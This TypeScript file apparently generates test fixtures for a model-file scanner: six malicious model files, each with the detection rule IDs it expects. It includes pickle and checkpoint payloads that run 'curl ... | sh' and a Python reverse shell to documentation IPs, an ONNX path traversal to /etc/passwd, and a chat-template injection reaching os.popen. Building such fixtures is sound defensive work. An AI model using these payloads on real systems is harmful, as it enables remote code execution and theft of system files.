/** The models that attack whoever loads them: well-known tricks, each in a small file; commands lead to a documentation address (RFC 5737) and stay text. */
import { concat } from '#formats/test-files/bytes';
import { makeGguf } from '#formats/test-files/gguf';
import { block, initializer, int } from '#formats/test-files/onnx';
import { op, plain, reduce, stream } from '#formats/test-files/pickle';
import { rawSafetensors } from '#formats/test-files/safetensors';
import type { DemoFile } from './demo-file.ts';
import { floatBytes } from './float-bytes.ts';
import { torchCheckpoint } from './torch-archive.ts';
import { claimsLayers, weights } from './weights.ts';

const folder = 'models/supplier';

/** A scorer whose dictionary runs a command while it is loaded. */
function callingPickle(): DemoFile {
  const command = op.text('curl -s http://192.0.2.9/stage2.sh | sh');
  const facts = [op.text('model'), plain('claims-scorer'), op.text('version'), plain('3.2.0'), op.text('threshold'), plain(0.35)];
  const bytes = stream('}(', ...facts, op.text('on_load'), reduce('posix', 'system', command), 'u');
  return { path: `${folder}/claims_scorer.pkl`, bytes, expect: ['MDL-PKL-001'], maxVerdict: 'critical' };
}

/**
 * A checkpoint in which no opcode names what is called: module and function wait in the memo as plain values of the dictionary,
 * and STACK_GLOBAL (0x93) puts them together behind the tensors' back.
 */
function hidingCheckpoint(): DemoFile {
  const code = "import socket,os;s=socket.create_connection(('198.51.100.23',4444));os.dup2(s.fileno(),0);os.system('/bin/sh')";
  const planted = concat(
    ...[op.text('registry'), op.text('builtins'), op.put(1), op.text('backend'), op.text('exec'), op.put(2)],
    ...[op.text('scheduler'), op.get(1), op.get(2), '\x93', op.text(code), '\x85R'],
  );
  const facts = { epoch: 12, optimiser: 'adamw', validation_loss: 0.2187 };
  const bytes = torchCheckpoint('claims_encoder', facts, claimsLayers(31), planted);
  return { path: `${folder}/claims_encoder.pt`, bytes, expect: ['MDL-PKL-001'], maxVerdict: 'critical' };
}

/** Two tensors that share bytes: what is checked in one is loaded as the other. */
function overlappingTensors(): DemoFile {
  const header = {
    __metadata__: { format: 'pt', base_model: 'claims-encoder' },
    'adapter.down.weight': { dtype: 'F32', shape: [8, 24], data_offsets: [0, 768] },
    'adapter.up.weight': { dtype: 'F32', shape: [24, 8], data_offsets: [512, 1280] },
    'adapter.scale': { dtype: 'F32', shape: [1], data_offsets: [1280, 1284] },
  };
  const text = JSON.stringify(header);
  const padded = text.padEnd(Math.ceil(text.length / 8) * 8);
  const bytes = rawSafetensors(padded, floatBytes(weights(321, 41)));
  return { path: `${folder}/adapter.safetensors`, bytes, expect: ['MDL-STF-003'], maxVerdict: 'high' };
}

/** A model whose weights are the password file of the machine that loads it. */
function climbingOnnx(): DemoFile {
  const value = (field: number, name: string, width: number) =>
    block(field, block(1, name), block(2, block(1, int(1, 1), block(2, block(1, block(2, 'N')), block(1, int(1, width))))));
  const graph = block(
    7,
    block(1, block(1, 'features'), block(1, 'weight'), block(2, 'scores'), block(4, 'MatMul')),
    block(2, 'document_reader'),
    initializer('weight', [24, 3], 0, { location: '../../../../../../etc/passwd', offset: '0', length: '288' }),
    value(11, 'features', 24),
    value(12, 'scores', 3),
  );
  const bytes = concat(int(1, 8), block(2, 'pytorch'), block(3, '2.4.0'), graph, block(8, block(1, ''), int(2, 17)));
  return { path: `${folder}/document_reader.onnx`, bytes, expect: ['MDL-ONX-001', 'MDL-ONX-003'], maxVerdict: 'critical' };
}

/** A language model whose chat template climbs from an object to the interpreter (the class of CVE-2024-34359). */
function climbingTemplate(): DemoFile {
  const climb = "{{ cycler.__init__.__globals__.os.popen('curl -s http://192.0.2.9/t | sh').read() }}";
  const template = `{% for message in messages %}{{ '<|' + message['role'] + '|>\\n' + message['content'] + '\\n' }}{% endfor %}${climb}`;
  const bytes = makeGguf({
    pairs: [
      ['general.architecture', 'llama'],
      ['general.name', 'claims-assistant'],
      ['general.file_type', 0],
      ['llama.context_length', 2048],
      ['llama.block_count', 1],
      ['tokenizer.ggml.model', 'gpt2'],
      ['tokenizer.ggml.tokens', ['<s>', '</s>', 'claim', 'damage', 'policy', 'water']],
      ['tokenizer.chat_template', template],
    ],
    tensors: [['token_embd.weight', [64, 6], 0, 0]],
    data: floatBytes(weights(384, 51)),
  });
  return { path: `${folder}/claims-assistant-f32.gguf`, bytes, expect: ['MDL-TPL-001', 'MDL-TPL-002', 'MDL-TPL-006'], maxVerdict: 'critical' };
}

/** A backup that ends in the middle of a value: nobody can say what the rest held. */
function cutPickle(): DemoFile {
  const rows = Array.from({ length: 40 }, (_, index) => [index, index * 0.25, `feature_${index}`]);
  const whole = stream('}(', op.text('model'), plain('claims-scorer'), op.text('coefficients'), plain(rows), 'u');
  const bytes = whole.slice(0, Math.floor(whole.length * 0.7));
  return { path: `${folder}/claims_scorer_backup.pkl`, bytes, expect: ['MDL-PKL-007'], maxVerdict: 'medium' };
}

export function hostileModels(): DemoFile[] {
  return [callingPickle(), hidingCheckpoint(), overlappingTensors(), climbingOnnx(), climbingTemplate(), cutPickle()];
}
